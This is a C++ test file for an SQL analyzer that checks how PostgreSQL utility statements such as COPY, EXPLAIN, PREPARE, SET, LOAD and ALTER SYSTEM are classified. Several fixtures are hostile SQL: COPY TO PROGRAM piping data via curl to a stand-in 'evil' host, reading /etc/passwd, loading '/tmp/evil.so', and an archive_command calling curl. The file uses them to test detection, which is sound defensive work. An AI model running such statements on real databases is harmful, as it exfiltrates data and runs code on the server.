// COPY, EXPLAIN, PREPARE/EXECUTE/DEALLOCATE, DO, CALL, SET/SHOW, transactions, LISTEN/NOTIFY,
// TRUNCATE, LOCK, maintenance, DISCARD, cursors, LOAD, ALTER SYSTEM.

#include "sql_test_util.h"

namespace gh::sql {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;
using testing::texts;

class UtilityFacts : public testing::SqlFactsTest {};

TEST_F(UtilityFacts, CopyDirectionAndEndpoint) {
  const auto& from_stdin = facts("copy t (a, b) from stdin with (format csv)");
  EXPECT_EQ(from_stdin.kind, StatementKind::kCopy);
  EXPECT_EQ(from_stdin.copy.direction, CopyDirection::kFrom);
  EXPECT_EQ(from_stdin.copy.endpoint, CopyEndpoint::kStdio);
  EXPECT_THAT(texts(from_stdin.relations_written), ElementsAre("t"));
  EXPECT_THAT(from_stdin.relations_read, IsEmpty());

  const auto& to_stdout = facts("copy s.t to stdout");
  EXPECT_EQ(to_stdout.copy.direction, CopyDirection::kTo);
  EXPECT_EQ(to_stdout.copy.endpoint, CopyEndpoint::kStdio);
  EXPECT_THAT(texts(to_stdout.relations_read), ElementsAre("s.t"));

  const auto& program = facts("COPY t TO PROGRAM 'curl -d @- http://evil'");
  EXPECT_EQ(program.copy.endpoint, CopyEndpoint::kProgram);
  EXPECT_EQ(program.copy.target, "curl -d @- http://evil");

  const auto& from_program = facts("copy t from program $$cat /etc/passwd$$");
  EXPECT_EQ(from_program.copy.direction, CopyDirection::kFrom);
  EXPECT_EQ(from_program.copy.endpoint, CopyEndpoint::kProgram);
  EXPECT_EQ(from_program.copy.target, "cat /etc/passwd");

  const auto& file = facts("copy (select * from secrets where pg_sleep(0) is null) to '/tmp/x'");
  EXPECT_EQ(file.copy.endpoint, CopyEndpoint::kFile);
  EXPECT_EQ(file.copy.target, "/tmp/x");
  EXPECT_TRUE(file.copy.has_query);
  EXPECT_THAT(texts(file.relations_read), ElementsAre("secrets"));
  EXPECT_THAT(texts(file.functions), ElementsAre("pg_sleep"));
}

TEST_F(UtilityFacts, CopyOfADmlQueryRunsIt) {
  const auto& f = facts("copy (delete from t returning *) to stdout");
  EXPECT_THAT(texts(f.relations_written), ElementsAre("t"));
  ASSERT_EQ(f.nested.size(), 1u);
  EXPECT_EQ(f.nested[0].kind, StatementKind::kDelete);
  EXPECT_EQ(f.nested[0].origin, NestedOrigin::kCopyQuery);
  EXPECT_TRUE(f.nested[0].executes);
}

TEST_F(UtilityFacts, ExplainAnalyzeRunsItsStatement) {
  const auto& f = facts("EXPLAIN ANALYZE DELETE FROM t");
  EXPECT_EQ(f.kind, StatementKind::kExplain);
  EXPECT_TRUE(f.explain_analyze);
  EXPECT_THAT(texts(f.relations_written), ElementsAre("t"));
  ASSERT_EQ(f.nested.size(), 1u);
  EXPECT_EQ(f.nested[0].kind, StatementKind::kDelete);
  EXPECT_EQ(f.nested[0].origin, NestedOrigin::kExplained);
  EXPECT_TRUE(f.nested[0].executes);
  EXPECT_FALSE(f.nested[0].filter.has_where);

  for (const char* sql : {"explain (analyze) delete from t", "explain (analyze true) delete from t",
                          "explain (analyze on, format json) delete from t",
                          "explain (analyze 1) delete from t", "explain analyse delete from t"}) {
    EXPECT_TRUE(facts(sql).explain_analyze) << sql;
  }
  EXPECT_THAT(texts(facts("explain analyze select pg_terminate_backend(1)").functions),
              ElementsAre("pg_terminate_backend"));
}

TEST_F(UtilityFacts, PlainExplainDoesNotRunItsStatement) {
  for (const char* sql :
       {"explain delete from t", "explain (analyze false) delete from t",
        "explain (analyze off) delete from t", "explain (analyze 0, costs off) delete from t"}) {
    const auto& f = facts(sql);
    EXPECT_FALSE(f.explain_analyze) << sql;
    EXPECT_THAT(f.relations_written, IsEmpty()) << sql;
    ASSERT_EQ(f.nested.size(), 1u) << sql;
    EXPECT_FALSE(f.nested[0].executes) << sql;
    EXPECT_THAT(texts(f.nested[0].relations_written), ElementsAre("t")) << sql;
  }
}

TEST_F(UtilityFacts, PrepareCarriesTheFactsExecuteIsJudgedBy) {
  const AnalyzedSql& a = analyzer_.analyze("PREPARE x AS DELETE FROM t; EXECUTE x; DEALLOCATE x");
  ASSERT_EQ(a.statements.size(), 3u);
  const auto& prepare = a.statements[0];
  EXPECT_EQ(prepare.kind, StatementKind::kPrepare);
  EXPECT_EQ(prepare.name, "x");
  EXPECT_THAT(prepare.relations_written, IsEmpty());  // nothing runs at PREPARE
  ASSERT_EQ(prepare.nested.size(), 1u);
  EXPECT_EQ(prepare.nested[0].kind, StatementKind::kDelete);
  EXPECT_EQ(prepare.nested[0].origin, NestedOrigin::kPrepared);
  EXPECT_FALSE(prepare.nested[0].executes);
  EXPECT_FALSE(prepare.nested[0].filter.has_where);
  EXPECT_THAT(texts(prepare.nested[0].relations_written), ElementsAre("t"));

  EXPECT_EQ(a.statements[1].kind, StatementKind::kExecute);
  EXPECT_EQ(a.statements[1].name, "x");
  EXPECT_EQ(a.statements[2].kind, StatementKind::kDeallocate);
  EXPECT_EQ(a.statements[2].name, "x");
  EXPECT_TRUE(facts("deallocate all").all);

  // EXECUTE's parameters are evaluated now.
  EXPECT_THAT(texts(facts("execute x(pg_read_file('/etc/passwd'))").functions),
              ElementsAre("pg_read_file"));
  // CREATE TABLE AS EXECUTE names the prepared statement it runs.
  const auto& ctas = facts("create table copy_of as execute x");
  ASSERT_EQ(ctas.nested.size(), 1u);
  EXPECT_EQ(ctas.nested[0].kind, StatementKind::kExecute);
  EXPECT_EQ(ctas.nested[0].name, "x");
}

TEST_F(UtilityFacts, DoBlocksAndCall) {
  const auto& d = facts("DO $$ BEGIN PERFORM pg_sleep(1); END $$");
  EXPECT_EQ(d.kind, StatementKind::kDoBlock);
  EXPECT_EQ(d.routine.language, "plpgsql");
  EXPECT_EQ(facts("do language PLPerlU 'system(1)'").routine.language, "plperlu");

  const auto& c = facts("call admin.rotate_keys(1, pg_read_file('k'))");
  EXPECT_EQ(c.kind, StatementKind::kCall);
  EXPECT_THAT(texts(c.functions), ElementsAre("admin.rotate_keys", "pg_read_file"));
}

TEST_F(UtilityFacts, SetResetShow) {
  const auto& role = facts("SET ROLE admin");
  EXPECT_EQ(role.kind, StatementKind::kSet);
  EXPECT_EQ(role.setting.action, SettingAction::kSet);
  EXPECT_EQ(role.setting.target, SettingTarget::kRole);
  EXPECT_EQ(role.setting.value, "admin");
  EXPECT_TRUE(facts("set local role admin").setting.is_local);
  EXPECT_EQ(facts("reset role").setting.action, SettingAction::kReset);
  EXPECT_EQ(facts("set role none").setting.value, "none");

  const auto& auth = facts("set session authorization 'postgres'");
  EXPECT_EQ(auth.setting.target, SettingTarget::kSessionAuthorization);
  EXPECT_EQ(auth.setting.value, "postgres");
  EXPECT_EQ(facts("set session authorization default").setting.action, SettingAction::kSetDefault);

  const auto& path = facts("set search_path = evil, public");
  EXPECT_EQ(path.setting.target, SettingTarget::kSearchPath);
  EXPECT_EQ(path.setting.value, "evil, public");
  EXPECT_EQ(facts("set search_path to default").setting.action, SettingAction::kSetDefault);

  const auto& other = facts("set statement_timeout = 5000");
  EXPECT_EQ(other.setting.target, SettingTarget::kOther);
  EXPECT_EQ(other.setting.name, "statement_timeout");
  EXPECT_EQ(other.setting.value, "5000");
  EXPECT_EQ(facts("reset all").setting.action, SettingAction::kResetAll);
  EXPECT_EQ(facts("set transaction isolation level serializable").setting.target,
            SettingTarget::kTransaction);

  const auto& show = facts("show search_path");
  EXPECT_EQ(show.kind, StatementKind::kShow);
  EXPECT_EQ(show.setting.action, SettingAction::kShow);
  EXPECT_EQ(show.setting.name, "search_path");
}

TEST_F(UtilityFacts, Transactions) {
  const AnalyzedSql& a = analyzer_.analyze(
      "begin; start transaction read only; savepoint s1; release s1; rollback to s1; commit; "
      "rollback; end; prepare transaction 'gid1'; commit prepared 'gid1'; "
      "rollback prepared 'gid2'");
  std::vector<TransactionVerb> verbs;
  for (const auto& s : a.statements) {
    EXPECT_EQ(s.kind, StatementKind::kTransaction);
    verbs.push_back(s.transaction);
  }
  using T = TransactionVerb;
  EXPECT_THAT(verbs, ElementsAre(T::kBegin, T::kBegin, T::kSavepoint, T::kRelease, T::kRollbackTo,
                                 T::kCommit, T::kRollback, T::kCommit, T::kPrepareTransaction,
                                 T::kCommitPrepared, T::kRollbackPrepared));
  EXPECT_EQ(a.statements[2].name, "s1");
  EXPECT_EQ(a.statements[8].name, "gid1");
}

TEST_F(UtilityFacts, ListenNotifyUnlisten) {
  EXPECT_EQ(facts("listen jobs").kind, StatementKind::kListen);
  EXPECT_EQ(facts("listen jobs").name, "jobs");
  const auto& n = facts("notify jobs, 'run'");
  EXPECT_EQ(n.kind, StatementKind::kNotify);
  EXPECT_EQ(n.payload, "run");
  EXPECT_TRUE(facts("unlisten *").all);
  EXPECT_EQ(facts("unlisten jobs").name, "jobs");
  EXPECT_THAT(texts(facts("select pg_notify('jobs', 'x')").functions), ElementsAre("pg_notify"));
}

TEST_F(UtilityFacts, TruncateLockMaintenanceDiscardLoad) {
  const auto& t = facts("truncate a, s.b restart identity cascade");
  EXPECT_EQ(t.kind, StatementKind::kTruncate);
  EXPECT_THAT(texts(t.relations_written), ElementsAre("a", "s.b"));
  EXPECT_TRUE(t.ddl.cascade);

  const auto& l = facts("lock table a in access exclusive mode");
  EXPECT_EQ(l.kind, StatementKind::kLock);
  EXPECT_EQ(l.lock_mode, 8);
  EXPECT_THAT(texts(l.relations_read), ElementsAre("a"));

  for (const char* sql : {"vacuum full analyze t (a)", "analyze t", "cluster t using i",
                          "reindex table t", "refresh materialized view t"}) {
    const auto& m = facts(sql);
    EXPECT_EQ(m.kind, StatementKind::kMaintenance) << sql;
    EXPECT_THAT(texts(m.relations_written), ElementsAre("t")) << sql;
  }
  EXPECT_EQ(facts("checkpoint").kind, StatementKind::kMaintenance);
  EXPECT_TRUE(facts("discard all").all);
  EXPECT_EQ(facts("discard plans").name, "plans");
  const auto& load = facts("load '/tmp/evil.so'");
  EXPECT_EQ(load.kind, StatementKind::kLoad);
  EXPECT_EQ(load.name, "/tmp/evil.so");
}

TEST_F(UtilityFacts, CursorsAndAlterSystem) {
  const auto& declare = facts("declare c cursor for select * from secrets");
  EXPECT_EQ(declare.kind, StatementKind::kCursor);
  EXPECT_EQ(declare.name, "c");
  EXPECT_THAT(texts(declare.relations_read), ElementsAre("secrets"));
  EXPECT_EQ(facts("fetch 10 from c").name, "c");
  EXPECT_TRUE(facts("close all").all);

  const auto& sys = facts("alter system set archive_command = 'curl evil'");
  EXPECT_EQ(sys.kind, StatementKind::kAlterSystem);
  EXPECT_EQ(sys.setting.name, "archive_command");
  EXPECT_EQ(sys.setting.value, "curl evil");
}

}  // namespace
}  // namespace gh::sql
